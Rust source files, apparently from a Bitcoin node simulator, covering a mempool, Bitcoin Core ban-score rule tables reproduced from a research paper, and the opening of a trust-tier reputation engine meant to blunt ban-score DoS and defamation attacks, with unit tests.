    pub fn get(&self, txid: &Hash256) -> Option<&Transaction> {
        self.txs.get(txid)
    }

    /// Removes a transaction (e.g. once mined).
    pub fn remove(&mut self, txid: &Hash256) -> Option<Transaction> {
        self.txs.remove(txid)
    }

    /// Current size.
    pub fn len(&self) -> usize {
        self.txs.len()
    }

    /// Whether empty.
    pub fn is_empty(&self) -> bool {
        self.txs.is_empty()
    }

    /// All txids (unordered).
    pub fn txids(&self) -> Vec<Hash256> {
        self.txs.keys().copied().collect()
    }

    /// Looks a transaction up by BIP152 short ID under `keys` — the
    /// compact-block reconstruction path.
    pub fn by_short_id(&self, keys: (u64, u64), sid: &ShortId) -> Option<Transaction> {
        self.txs
            .values()
            .find(|tx| short_id(keys, &tx.wtxid()) == *sid)
            .cloned()
    }
}

impl Default for Mempool {
    fn default() -> Self {
        Mempool::new(50_000)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_wire::tx::{OutPoint, TxIn, TxOut};

    fn tx(tag: u8) -> Transaction {
        Transaction::new(
            2,
            vec![TxIn::new(OutPoint::new(Hash256::hash(&[tag]), 0))],
            vec![TxOut::new(1000, vec![0x51])],
            0,
        )
    }

    #[test]
    fn accept_and_lookup() {
        let mut mp = Mempool::default();
        let t = tx(1);
        assert_eq!(mp.accept(&t), TxVerdict::Accepted);
        assert!(mp.contains(&t.txid()));
        assert_eq!(mp.get(&t.txid()), Some(&t));
        assert_eq!(mp.len(), 1);
    }

    #[test]
    fn duplicate_rejected() {
        let mut mp = Mempool::default();
        let t = tx(1);
        mp.accept(&t);
        assert_eq!(mp.accept(&t), TxVerdict::Duplicate);
    }

    #[test]
    fn structural_invalid_is_not_segwit_invalid() {
        let mut mp = Mempool::default();
        let mut t = tx(1);
        t.outputs_mut().clear();
        assert_eq!(mp.accept(&t), TxVerdict::Invalid("bad-txns-vout-empty"));
    }

    #[test]
    fn segwit_violation_detected() {
        let mut mp = Mempool::default();
        let mut t = tx(2);
        t.inputs_mut()[0].witness = vec![vec![0u8; 521]];
        assert_eq!(
            mp.accept(&t),
            TxVerdict::InvalidSegwit("bad-witness-script-element-size")
        );
        assert!(mp.is_empty());
    }

    #[test]
    fn coinbase_not_accepted() {
        let mut mp = Mempool::default();
        let cb = Transaction::coinbase(50, b"cb");
        assert_eq!(mp.accept(&cb), TxVerdict::Invalid("coinbase"));
    }

    #[test]
    fn pool_size_capped() {
        let mut mp = Mempool::new(2);
        assert_eq!(mp.accept(&tx(1)), TxVerdict::Accepted);
        assert_eq!(mp.accept(&tx(2)), TxVerdict::Accepted);
        assert_eq!(mp.accept(&tx(3)), TxVerdict::Full);
    }

    #[test]
    fn remove_frees_space() {
        let mut mp = Mempool::new(1);
        let t = tx(1);
        mp.accept(&t);
        mp.remove(&t.txid());
        assert_eq!(mp.accept(&tx(2)), TxVerdict::Accepted);
    }

    #[test]
    fn short_id_lookup() {
        let mut mp = Mempool::default();
        let t = tx(5);
        mp.accept(&t);
        let keys = (0xdead, 0xbeef);
        let sid = short_id(keys, &t.wtxid());
        assert_eq!(mp.by_short_id(keys, &sid), Some(t));
        let other = ShortId([9; 6]);
        assert_eq!(mp.by_short_id(keys, &other), None);
    }
}
