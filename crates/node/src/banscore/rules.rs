//! The ban-score rules of Bitcoin Core 0.20.0 / 0.21.0 / 0.22.0 — a direct
//! encoding of Table I of the paper.
//!
//! Each [`Misbehavior`] names one rule; [`Misbehavior::penalty`] yields the
//! score increment for a given Core version (or `None` where the rule was
//! deprecated), and [`Misbehavior::object`] restricts which peers the rule
//! can hit (one rule only affects outbound peers, the handshake rules only
//! inbound peers).

use std::fmt;

/// Which Bitcoin Core rule set the node emulates.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, Default)]
pub enum CoreVersion {
    /// Bitcoin Core 0.20.0 — the version the paper's testbed ran.
    #[default]
    V0_20,
    /// Bitcoin Core 0.21.0.
    V0_21,
    /// Bitcoin Core 0.22.0.
    V0_22,
}

impl fmt::Display for CoreVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CoreVersion::V0_20 => write!(f, "0.20.0"),
            CoreVersion::V0_21 => write!(f, "0.21.0"),
            CoreVersion::V0_22 => write!(f, "0.22.0"),
        }
    }
}

/// Broad classification of a misbehavior (Table I's last column).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum MisbehaviorKind {
    /// Payload is consensus/protocol-invalid.
    Invalid,
    /// A list or element exceeded a protocol limit.
    Oversize,
    /// Messages out of protocol order.
    Disorder,
    /// A message that must appear once was repeated.
    Repeat,
}

impl fmt::Display for MisbehaviorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MisbehaviorKind::Invalid => write!(f, "Invalid"),
            MisbehaviorKind::Oversize => write!(f, "Oversize"),
            MisbehaviorKind::Disorder => write!(f, "Disorder"),
            MisbehaviorKind::Repeat => write!(f, "Repeat"),
        }
    }
}

/// Which peers a rule can punish (Table I's "Object of Ban" column).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum BanObject {
    /// Any peer.
    AnyPeer,
    /// Only peers that connected to us.
    InboundPeer,
    /// Only peers we connected to.
    OutboundPeer,
}

impl fmt::Display for BanObject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BanObject::AnyPeer => write!(f, "Any peer"),
            BanObject::InboundPeer => write!(f, "Inbound peer"),
            BanObject::OutboundPeer => write!(f, "Outbound peer"),
        }
    }
}

/// Every ban-score rule of Table I.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Misbehavior {
    /// `BLOCK`: block data was mutated (merkle/structure/PoW check failed).
    BlockMutated,
    /// `BLOCK`: the block was already cached as invalid.
    BlockCachedInvalid,
    /// `BLOCK`: the previous block is known-invalid.
    BlockPrevInvalid,
    /// `BLOCK`: the previous block is missing (orphan).
    BlockPrevMissing,
    /// `TX`: invalid by SegWit consensus rules.
    TxInvalidSegwit,
    /// `GETBLOCKTXN`: out-of-bounds transaction indices.
    GetBlockTxnOutOfBounds,
    /// `HEADERS`: ten non-connecting headers messages.
    HeadersUnconnecting,
    /// `HEADERS`: non-continuous headers sequence.
    HeadersNonContinuous,
    /// `HEADERS`: more than 2000 headers.
    HeadersOversize,
    /// `ADDR`: more than 1000 addresses.
    AddrOversize,
    /// `INV`: more than 50000 inventory entries.
    InvOversize,
    /// `GETDATA`: more than 50000 inventory entries.
    GetDataOversize,
    /// `CMPCTBLOCK`: invalid compact block data.
    CmpctBlockInvalid,
    /// `FILTERLOAD`: bloom filter larger than 36000 bytes.
    FilterLoadOversize,
    /// `FILTERADD`: sent although protocol version >= 70011 disallows it.
    FilterAddProtocolVersion,
    /// `FILTERADD`: data item larger than 520 bytes.
    FilterAddOversize,
    /// `VERSION`: duplicate VERSION message.
    DuplicateVersion,
    /// `VERSION`: a message arrived before VERSION.
    MessageBeforeVersion,
    /// `VERACK`: a message (other than VERSION) arrived before VERACK.
    MessageBeforeVerack,
    /// *Not a Bitcoin Core rule.* Ablation counterpart of BM-DoS vector 2:
    /// punish frames whose Bitcoin header checksum is corrupt (Core drops
    /// them before misbehavior tracking). Carries no penalty under any
    /// stock version; the ablation applies a configurable score via
    /// [`super::tracker::MisbehaviorTracker::penalize`].
    ChecksumCorrupt,
}

/// All rules in Table I order.
pub const ALL_MISBEHAVIORS: [Misbehavior; 19] = [
    Misbehavior::BlockMutated,
    Misbehavior::BlockCachedInvalid,
    Misbehavior::BlockPrevInvalid,
    Misbehavior::BlockPrevMissing,
    Misbehavior::TxInvalidSegwit,
    Misbehavior::GetBlockTxnOutOfBounds,
    Misbehavior::HeadersUnconnecting,
    Misbehavior::HeadersNonContinuous,
    Misbehavior::HeadersOversize,
    Misbehavior::AddrOversize,
    Misbehavior::InvOversize,
    Misbehavior::GetDataOversize,
    Misbehavior::CmpctBlockInvalid,
    Misbehavior::FilterLoadOversize,
    Misbehavior::FilterAddProtocolVersion,
    Misbehavior::FilterAddOversize,
    Misbehavior::DuplicateVersion,
    Misbehavior::MessageBeforeVersion,
    Misbehavior::MessageBeforeVerack,
];

impl Misbehavior {
    /// The message type the rule applies to.
    pub fn message_type(&self) -> &'static str {
        use Misbehavior::*;
        match self {
            BlockMutated | BlockCachedInvalid | BlockPrevInvalid | BlockPrevMissing => "block",
            TxInvalidSegwit => "tx",
            GetBlockTxnOutOfBounds => "getblocktxn",
            HeadersUnconnecting | HeadersNonContinuous | HeadersOversize => "headers",
            AddrOversize => "addr",
            InvOversize => "inv",
            GetDataOversize => "getdata",
            CmpctBlockInvalid => "cmpctblock",
            FilterLoadOversize => "filterload",
            FilterAddProtocolVersion | FilterAddOversize => "filteradd",
            DuplicateVersion | MessageBeforeVersion => "version",
            MessageBeforeVerack => "verack",
            ChecksumCorrupt => "(any)",
        }
    }

    /// Human-readable description (Table I's "Message Misbehavior" column).
    pub fn description(&self) -> &'static str {
        use Misbehavior::*;
        match self {
            BlockMutated => "Block data was mutated",
            BlockCachedInvalid => "Block was cached as invalid",
            BlockPrevInvalid => "Previous block is invalid",
            BlockPrevMissing => "Previous block is missing",
            TxInvalidSegwit => "Invalid by consensus rules of SegWit",
            GetBlockTxnOutOfBounds => "Out-of-bounds transaction indices",
            HeadersUnconnecting => "10 non-connecting headers",
            HeadersNonContinuous => "Non-continuous headers sequence",
            HeadersOversize => "More than 2000 headers",
            AddrOversize => "More than 1000 addresses",
            InvOversize => "More than 50000 inventory entries",
            GetDataOversize => "More than 50000 inventory entries",
            CmpctBlockInvalid => "Invalid compact block data",
            FilterLoadOversize => "Bloom filter size > 36000 bytes",
            FilterAddProtocolVersion => "Protocol version number >= 70011",
            FilterAddOversize => "Data item > 520 bytes",
            DuplicateVersion => "Duplicate VERSION",
            MessageBeforeVersion => "Message before VERSION",
            MessageBeforeVerack => "Message (other than VERSION) before VERACK",
            ChecksumCorrupt => "Corrupted frame checksum (ablation only)",
        }
    }

    /// Table I's misbehavior classification.
    pub fn kind(&self) -> MisbehaviorKind {
        use Misbehavior::*;
        match self {
            BlockMutated | BlockCachedInvalid | BlockPrevInvalid | BlockPrevMissing
            | TxInvalidSegwit | CmpctBlockInvalid | FilterAddProtocolVersion => {
                MisbehaviorKind::Invalid
            }
            GetBlockTxnOutOfBounds | HeadersOversize | AddrOversize | InvOversize
            | GetDataOversize | FilterLoadOversize | FilterAddOversize => MisbehaviorKind::Oversize,
            HeadersUnconnecting | HeadersNonContinuous | MessageBeforeVersion
            | MessageBeforeVerack => MisbehaviorKind::Disorder,
            DuplicateVersion => MisbehaviorKind::Repeat,
            ChecksumCorrupt => MisbehaviorKind::Invalid,
        }
    }

    /// Which peers the rule can punish.
    pub fn object(&self) -> BanObject {
        use Misbehavior::*;
        match self {
            BlockCachedInvalid => BanObject::OutboundPeer,
            DuplicateVersion | MessageBeforeVersion | MessageBeforeVerack => BanObject::InboundPeer,
            _ => BanObject::AnyPeer,
        }
    }

    /// The score increment under `version`, or `None` if the rule was
    /// removed in that version.
    pub fn penalty(&self, version: CoreVersion) -> Option<u32> {
        use CoreVersion::*;
        use Misbehavior::*;
        match self {
            BlockMutated | BlockCachedInvalid | BlockPrevInvalid => Some(100),
            BlockPrevMissing => Some(10),
            TxInvalidSegwit => Some(100),
            GetBlockTxnOutOfBounds => Some(100),
            HeadersUnconnecting | HeadersNonContinuous | HeadersOversize => Some(20),
            AddrOversize | InvOversize | GetDataOversize => Some(20),
            CmpctBlockInvalid => Some(100),
            FilterLoadOversize => Some(100),
            FilterAddOversize => Some(100),
            FilterAddProtocolVersion => match version {
                V0_20 => Some(100),
                V0_21 | V0_22 => None,
            },
            DuplicateVersion | MessageBeforeVersion => match version {
                V0_20 | V0_21 => Some(1),
                V0_22 => None,
            },
            MessageBeforeVerack => match version {
                V0_20 => Some(1),
                V0_21 | V0_22 => None,
            },
            // Never a stock rule.
            ChecksumCorrupt => None,
        }
    }

    /// Whether the rule applies to a peer of the given direction.
    pub fn applies_to(&self, inbound: bool) -> bool {
        match self.object() {
            BanObject::AnyPeer => true,
            BanObject::InboundPeer => inbound,
            BanObject::OutboundPeer => !inbound,
        }
    }
}

impl fmt::Display for Misbehavior {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.message_type(), self.description())
    }
}

/// What a version of Core does with misbehavior in one message type: the
/// per-(type, version) cell of Table I, flattened.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum BanDecision {
    /// At least one Table I rule penalizes misbehavior in this type.
    Penalize,
    /// No rule — misbehavior in this type is tolerated. These rows are the
    /// raw material of the paper's first BM-DoS vector, so each one is an
    /// explicit decision here, not an omission.
    Tolerate,
}

/// One explicit decision per wire command per version, columns in
/// `[V0_20, V0_21, V0_22]` order. `btc-lint`'s `ban-exhaustive` rule
/// cross-checks this table against `ALL_COMMANDS` and the `node.rs`
/// dispatch — a new message type that lands without a row here fails the
/// lint — and the `ban_decisions_agree_with_penalties` test ties each cell
/// to [`Misbehavior::penalty`].
pub const BAN_DECISIONS: [(&str, [BanDecision; 3]); 26] = [
    ("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
    ("verack", [BanDecision::Penalize, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("addr", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("getaddr", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("pong", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("inv", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("getdata", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("notfound", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("getblocks", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("getheaders", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("headers", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("tx", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("block", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("mempool", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("merkleblock", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("sendheaders", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("feefilter", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("filterload", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("filteradd", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("filterclear", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("sendcmpct", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("cmpctblock", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("getblocktxn", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),
    ("blocktxn", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
    ("reject", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
];

/// The [`BAN_DECISIONS`] row for `command`, if any.
pub fn ban_decision(command: &str) -> Option<[BanDecision; 3]> {
    BAN_DECISIONS
        .iter()
        .find(|(c, _)| *c == command)
        .map(|(_, d)| *d)
}

/// Weight class of a command under the trust-tier reputation engine
/// (ROADMAP item 3). Where the stock mechanism is binary (100 points →
/// 24 h ban), the tier engine grades strikes so that no single rule can
/// jump a peer straight past the graylist into a hard ban.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum TierWeight {
    /// Consensus-invalid payloads (stock 100-point rules).
    Severe,
    /// Protocol-limit violations (stock 10–20-point rules).
    Moderate,
    /// Handshake-order slips (stock 1-point rules).
    Light,
    /// No per-message misbehavior rule; the command is still covered by
    /// the engine's flood-pressure accounting, so "Neutral" is an
    /// explicit decision, not an omission.
    Neutral,
}

impl TierWeight {
    /// Strike points of the class. The maximum (Severe) is deliberately
    /// no larger than `ban_threshold - graylist_threshold` of the default
    /// [`super::reputation::ReputationConfig`], so a peer always passes
    /// through the graylist soft-ban before any hard ban.
    pub fn points(self) -> f64 {
        match self {
            TierWeight::Severe => 40.0,
            TierWeight::Moderate => 15.0,
            TierWeight::Light => 5.0,
            TierWeight::Neutral => 0.0,
        }
    }
}

impl fmt::Display for TierWeight {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TierWeight::Severe => write!(f, "Severe"),
            TierWeight::Moderate => write!(f, "Moderate"),
            TierWeight::Light => write!(f, "Light"),
            TierWeight::Neutral => write!(f, "Neutral"),
        }
    }
}

/// One explicit tier-weight decision per wire command — the reputation
/// engine's analogue of [`BAN_DECISIONS`]. `btc-lint`'s `ban-exhaustive`
/// rule cross-checks this table against `ALL_COMMANDS` exactly like the
/// decision table, so a new message type cannot land without a weight
/// class, and `tier_weights_agree_with_ban_decisions` pins each row to
/// the stock penalty it grades.
pub const TIER_WEIGHTS: [(&str, TierWeight); 26] = [
    ("version", TierWeight::Light),
    ("verack", TierWeight::Light),
    ("addr", TierWeight::Moderate),
    ("getaddr", TierWeight::Neutral),
    ("ping", TierWeight::Neutral),
    ("pong", TierWeight::Neutral),
    ("inv", TierWeight::Moderate),
    ("getdata", TierWeight::Moderate),
    ("notfound", TierWeight::Neutral),
    ("getblocks", TierWeight::Neutral),
    ("getheaders", TierWeight::Neutral),
    ("headers", TierWeight::Moderate),
    ("tx", TierWeight::Severe),
    ("block", TierWeight::Severe),
    ("mempool", TierWeight::Neutral),
    ("merkleblock", TierWeight::Neutral),
    ("sendheaders", TierWeight::Neutral),
    ("feefilter", TierWeight::Neutral),
    ("filterload", TierWeight::Severe),
    ("filteradd", TierWeight::Severe),
    ("filterclear", TierWeight::Neutral),
    ("sendcmpct", TierWeight::Neutral),
    ("cmpctblock", TierWeight::Severe),
    ("getblocktxn", TierWeight::Severe),
    ("blocktxn", TierWeight::Neutral),
    ("reject", TierWeight::Neutral),
];

/// The [`TIER_WEIGHTS`] row for `command`, if any.
pub fn tier_weight(command: &str) -> Option<TierWeight> {
    TIER_WEIGHTS
        .iter()
        .find(|(c, _)| *c == command)
        .map(|(_, w)| *w)
}

/// Maps a stock score increment to its tier weight class: 100-point rules
/// are Severe, the 10–20-point limit rules Moderate, the 1-point
/// handshake rules Light. This is how the tier engine "reuses" Table I —
/// relative rule severity is preserved while the absolute cliff is not.
pub fn tier_weight_of_penalty(stock: u32) -> TierWeight {
    match stock {
        100.. => TierWeight::Severe,
        10..=99 => TierWeight::Moderate,
        1..=9 => TierWeight::Light,
        0 => TierWeight::Neutral,
    }
}

/// Message types that carry at least one ban-score rule under `version`.
pub fn protected_message_types(version: CoreVersion) -> Vec<&'static str> {
    let mut v: Vec<&'static str> = ALL_MISBEHAVIORS
        .iter()
        .filter(|m| m.penalty(version).is_some())
        .map(|m| m.message_type())
        .collect();
    v.sort_unstable();
    v.dedup();
    v
}

/// Message types with *no* ban-score rule under `version` — the "messages
/// never getting banned" of the paper's first BM-DoS vector.
pub fn unprotected_message_types(version: CoreVersion) -> Vec<&'static str> {
    let protected = protected_message_types(version);
    btc_wire::message::ALL_COMMANDS
        .iter()
        .copied()
        .filter(|c| !protected.contains(c))
        .collect()
}

/// Renders Table I as text (used by the `repro` harness).
pub fn render_table1() -> String {
    use std::fmt::Write;
    let mut out = String::new();
    // Writing into a String never fails; swallow the Result instead of
    // keeping a panic path in report code.
    let _ = writeln!(
        out,
        "{:<12} {:<45} {:>8} {:>8} {:>8}  {:<14} {:<10}",
        "Message", "Misbehavior", "'20", "'21", "'22", "Object", "Kind"
    );
    for m in ALL_MISBEHAVIORS {
        let p = |v| {
            m.penalty(v)
                .map(|s| s.to_string())
                .unwrap_or_else(|| "-".into())
        };
        let _ = writeln!(
            out,
            "{:<12} {:<45} {:>8} {:>8} {:>8}  {:<14} {:<10}",
            m.message_type().to_uppercase(),
            m.description(),
            p(CoreVersion::V0_20),
            p(CoreVersion::V0_21),
            p(CoreVersion::V0_22),
            m.object().to_string(),
            m.kind().to_string(),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_scores_v20() {
        use Misbehavior::*;
        let p = |m: Misbehavior| m.penalty(CoreVersion::V0_20);
        assert_eq!(p(BlockMutated), Some(100));
        assert_eq!(p(BlockCachedInvalid), Some(100));
        assert_eq!(p(BlockPrevInvalid), Some(100));
        assert_eq!(p(BlockPrevMissing), Some(10));
        assert_eq!(p(TxInvalidSegwit), Some(100));
        assert_eq!(p(GetBlockTxnOutOfBounds), Some(100));
        assert_eq!(p(HeadersUnconnecting), Some(20));
        assert_eq!(p(HeadersNonContinuous), Some(20));
        assert_eq!(p(HeadersOversize), Some(20));
        assert_eq!(p(AddrOversize), Some(20));
        assert_eq!(p(InvOversize), Some(20));
        assert_eq!(p(GetDataOversize), Some(20));
        assert_eq!(p(CmpctBlockInvalid), Some(100));
        assert_eq!(p(FilterLoadOversize), Some(100));
        assert_eq!(p(FilterAddProtocolVersion), Some(100));
        assert_eq!(p(FilterAddOversize), Some(100));
        assert_eq!(p(DuplicateVersion), Some(1));
        assert_eq!(p(MessageBeforeVersion), Some(1));
        assert_eq!(p(MessageBeforeVerack), Some(1));
    }

    #[test]
    fn deprecations_match_table1() {
        use Misbehavior::*;
        // FILTERADD version rule removed in 0.21.
        assert_eq!(FilterAddProtocolVersion.penalty(CoreVersion::V0_21), None);
        assert_eq!(FilterAddProtocolVersion.penalty(CoreVersion::V0_22), None);
        // VERACK rule removed in 0.21.
        assert_eq!(MessageBeforeVerack.penalty(CoreVersion::V0_21), None);
        // VERSION rules removed in 0.22.
        assert_eq!(DuplicateVersion.penalty(CoreVersion::V0_21), Some(1));
        assert_eq!(DuplicateVersion.penalty(CoreVersion::V0_22), None);
        assert_eq!(MessageBeforeVersion.penalty(CoreVersion::V0_22), None);
    }

    #[test]
    fn objects_match_table1() {
        use Misbehavior::*;
        assert_eq!(BlockCachedInvalid.object(), BanObject::OutboundPeer);
        assert_eq!(DuplicateVersion.object(), BanObject::InboundPeer);
        assert_eq!(MessageBeforeVersion.object(), BanObject::InboundPeer);
        assert_eq!(MessageBeforeVerack.object(), BanObject::InboundPeer);
        assert_eq!(BlockMutated.object(), BanObject::AnyPeer);
        assert_eq!(InvOversize.object(), BanObject::AnyPeer);
    }

    #[test]
    fn applies_to_direction() {
        use Misbehavior::*;
        assert!(BlockCachedInvalid.applies_to(false));
        assert!(!BlockCachedInvalid.applies_to(true));
        assert!(DuplicateVersion.applies_to(true));
        assert!(!DuplicateVersion.applies_to(false));
        assert!(BlockMutated.applies_to(true));
        assert!(BlockMutated.applies_to(false));
    }

    #[test]
    fn twelve_of_twenty_six_protected_in_v20() {
        // The paper: "only 12 out of 26 message types possess corresponding
        // ban-score rules in Bitcoin Core 0.20.0".
        let protected = protected_message_types(CoreVersion::V0_20);
        assert_eq!(protected.len(), 12, "{protected:?}");
        let unprotected = unprotected_message_types(CoreVersion::V0_20);
        assert_eq!(unprotected.len(), 14);
        // PING is the canonical never-banned flood message.
        assert!(unprotected.contains(&"ping"));
        assert!(!protected.contains(&"ping"));
    }

    #[test]
    fn protected_set_shrinks_over_versions() {
        let v20 = protected_message_types(CoreVersion::V0_20);
        let v21 = protected_message_types(CoreVersion::V0_21);
        let v22 = protected_message_types(CoreVersion::V0_22);
        assert!(v21.len() <= v20.len());
        assert!(v22.len() <= v21.len());
        // verack loses its rule in 0.21, version in 0.22.
        assert!(v20.contains(&"verack"));
        assert!(!v21.contains(&"verack"));
        assert!(v21.contains(&"version"));
        assert!(!v22.contains(&"version"));
    }

    #[test]
    fn kinds_match_table1() {
        use Misbehavior::*;
        assert_eq!(BlockMutated.kind(), MisbehaviorKind::Invalid);
        assert_eq!(HeadersOversize.kind(), MisbehaviorKind::Oversize);
        assert_eq!(HeadersNonContinuous.kind(), MisbehaviorKind::Disorder);
        assert_eq!(DuplicateVersion.kind(), MisbehaviorKind::Repeat);
        assert_eq!(GetBlockTxnOutOfBounds.kind(), MisbehaviorKind::Oversize);
    }

    #[test]
    fn ban_decisions_agree_with_penalties() {
        // The flattened table is derived data; this pins every cell to the
        // Misbehavior::penalty source of truth so the two can never drift.
        let versions = [CoreVersion::V0_20, CoreVersion::V0_21, CoreVersion::V0_22];
        for (command, decisions) in BAN_DECISIONS {
            for (i, v) in versions.into_iter().enumerate() {
                let protected = protected_message_types(v).contains(&command);
                let expect = if protected {
                    BanDecision::Penalize
                } else {
                    BanDecision::Tolerate
                };
                assert_eq!(
                    decisions[i], expect,
                    "BAN_DECISIONS disagrees with Misbehavior::penalty for {command} under {v}"
                );
            }
        }
    }

    #[test]
    fn ban_decisions_cover_every_command_once() {
        let mut commands: Vec<&str> = BAN_DECISIONS.iter().map(|(c, _)| *c).collect();
        let mut expect = btc_wire::message::ALL_COMMANDS.to_vec();
        commands.sort_unstable();
        expect.sort_unstable();
        assert_eq!(commands, expect);
        assert_eq!(ban_decision("ping"), Some([BanDecision::Tolerate; 3]));
        assert_eq!(ban_decision("bogus"), None);
    }

    #[test]
    fn tier_weights_cover_every_command_once() {
        let mut commands: Vec<&str> = TIER_WEIGHTS.iter().map(|(c, _)| *c).collect();
        let mut expect = btc_wire::message::ALL_COMMANDS.to_vec();
        commands.sort_unstable();
        expect.sort_unstable();
        assert_eq!(commands, expect);
        assert_eq!(tier_weight("ping"), Some(TierWeight::Neutral));
        assert_eq!(tier_weight("block"), Some(TierWeight::Severe));
        assert_eq!(tier_weight("bogus"), None);
    }

    #[test]
    fn tier_weights_agree_with_ban_decisions() {
        // A command is Neutral exactly when no version ever penalizes it,
        // and a weighted command's class matches the strongest stock rule
        // on that message type.
        for (command, weight) in TIER_WEIGHTS {
            let ever_penalized = ban_decision(command)
                .expect("tier-weight command missing from BAN_DECISIONS")
                .iter()
                .any(|d| *d == BanDecision::Penalize);
            assert_eq!(
                weight != TierWeight::Neutral,
                ever_penalized,
                "TIER_WEIGHTS disagrees with BAN_DECISIONS for {command}"
            );
            if ever_penalized {
                let strongest = ALL_MISBEHAVIORS
                    .iter()
                    .filter(|m| m.message_type() == command)
                    .filter_map(|m| m.penalty(CoreVersion::V0_20))
                    .max()
                    .unwrap_or(0);
                assert_eq!(
                    weight,
                    tier_weight_of_penalty(strongest),
                    "weight class of {command} does not match its strongest stock rule"
                );
            }
        }
    }

    #[test]
    fn tier_weight_points_are_graded() {
        assert!(TierWeight::Severe.points() > TierWeight::Moderate.points());
        assert!(TierWeight::Moderate.points() > TierWeight::Light.points());
        assert!(TierWeight::Light.points() > TierWeight::Neutral.points());
        assert_eq!(TierWeight::Neutral.points(), 0.0);
        assert_eq!(tier_weight_of_penalty(100), TierWeight::Severe);
        assert_eq!(tier_weight_of_penalty(20), TierWeight::Moderate);
        assert_eq!(tier_weight_of_penalty(10), TierWeight::Moderate);
        assert_eq!(tier_weight_of_penalty(1), TierWeight::Light);
        assert_eq!(tier_weight_of_penalty(0), TierWeight::Neutral);
    }

    #[test]
    fn render_table_contains_every_rule() {
        let t = render_table1();
        for m in ALL_MISBEHAVIORS {
            assert!(t.contains(m.description()), "missing {m}");
        }
    }
}
