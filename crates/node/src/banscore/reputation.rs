//! The trust-tier reputation engine (ROADMAP item 3): graceful degradation
//! instead of the stock binary ban cliff.
//!
//! The paper shows both attacks exploit the same brittleness: 100 points →
//! 24 h hard ban, no forgiveness. A burst of spoofed strikes permanently
//! evicts an honest peer (Defamation), and a patient flooder rides just
//! under the cliff forever (BM-DoS). This engine replaces the cliff with a
//! five-tier lattice:
//!
//! ```text
//! Trusted ── Normal ── Probation ── Graylist ── Banned
//!   ▲ credit       ▲ decay      ▲ expiry     (24 h, BanMan)
//! ```
//!
//! * **Weighted penalties** — strikes are graded by
//!   [`TierWeight`](super::rules::TierWeight) (Severe 40 / Moderate 15 /
//!   Light 5), derived from the stock Table-I penalty of the rule, so the
//!   relative severity of the 26-command `BAN_DECISIONS` table is preserved
//!   while no single rule can jump a peer past the graylist.
//! * **Deterministic decay** — the strike score halves every
//!   `half_life` of sim time (`score · 2^(−Δt/half_life)`), so stale
//!   (e.g. spoofed) strikes age out instead of accumulating forever.
//! * **Credit promotion** — good behaviour (valid blocks) feeds an
//!   embedded [`GoodScoreTracker`]; enough credit with a clean sheet
//!   promotes Normal → Trusted, and each credit also forgives a few strike
//!   points.
//! * **Hysteresis** — demotion happens at a threshold, promotion only
//!   after the score decays a further `hysteresis` points below it, so a
//!   peer oscillating around a boundary does not flap between tiers.
//! * **Graylist soft-ban** — crossing the graylist threshold rate-limits
//!   the peer and removes it from relay / makes it the first eviction
//!   choice for `graylist_duration`, after which it re-enters at
//!   Probation. A hard (BanMan, 24 h) ban can only fire from *within* the
//!   graylist, so every peer passes through the recoverable soft-ban
//!   before the irreversible one.
//! * **Flood pressure** — a per-peer token bucket charges Light strikes
//!   for sustained message floods, covering the 14 commands with no
//!   Table-I rule (the paper's first BM-DoS vector, e.g. PING).
//!
//! Everything runs on sim time ([`Nanos`]) with pure-function state
//! updates, so sweeps are float-bit-identical at any `--jobs` count. With
//! [`ReputationConfig::stock_equivalent`] (decay off, stock weights,
//! graylist/pressure/credit off) the engine reproduces the stock
//! [`MisbehaviorTracker`](super::MisbehaviorTracker) ban decision exactly —
